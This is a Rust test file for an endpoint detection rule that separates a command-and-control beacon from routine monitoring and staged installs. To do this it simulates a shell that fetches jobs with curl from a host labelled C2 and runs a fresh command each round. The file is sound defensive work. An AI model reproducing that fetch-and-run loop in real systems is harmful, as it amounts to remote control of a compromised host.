//! Who fetches commands, and who only asks often.

use crate::detect::Severity::{High, Medium};
use crate::detect::testkit::*;
use crate::model::{Direction, NetOp};

const RULES: &[&str] = &["fetched_commands"];
const C2: &str = "203.0.113.9:80";

/// A loop of a shell: it fetches, runs a command that it has not run before, and sleeps.
fn rounds(node: &mut Node, count: u32, command: impl Fn(u32) -> String) {
    for round in 0..count {
        let pid = 100 + 10 * round;
        node.run(pid, 40, "/usr/bin/curl -s http://c2/job");
        node.net(pid, NetOp::Established, Direction::Outbound, C2);
        node.run(pid + 1, 40, &command(round));
        node.run(pid + 2, 40, "/usr/bin/sleep 5");
    }
}

#[test]
fn a_loop_that_fetches_and_runs_something_new_each_time_is_a_beacon() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/bin/sh loop");
    rounds(&mut node, 4, |round| format!("/bin/sh -c command-{round}"));
    assert_eq!(node.take(), [("fetched_commands".into(), Medium, false)]);
    rounds(&mut node, 6, |round| format!("/bin/sh -c another-{round}"));
    assert_eq!(node.take(), [("fetched_commands".into(), High, false)]);
}

#[test]
fn the_same_work_after_each_answer_is_monitoring() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/bin/sh health");
    rounds(&mut node, 12, |_| "/usr/bin/df -h".to_owned());
    assert_eq!(node.take(), []);
}

#[test]
fn one_place_after_the_other_is_an_installation() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/bin/sh install");
    for round in 0..8 {
        let pid = 100 + 10 * round;
        node.run(pid, 40, &format!("/usr/bin/curl -O http://mirror/part-{round}"));
        node.net(pid, NetOp::Established, Direction::Outbound, C2);
        node.run(pid + 1, 40, &format!("/usr/bin/tar xf part-{round}"));
    }
    assert_eq!(node.take(), [], "nothing is asked for twice");
}
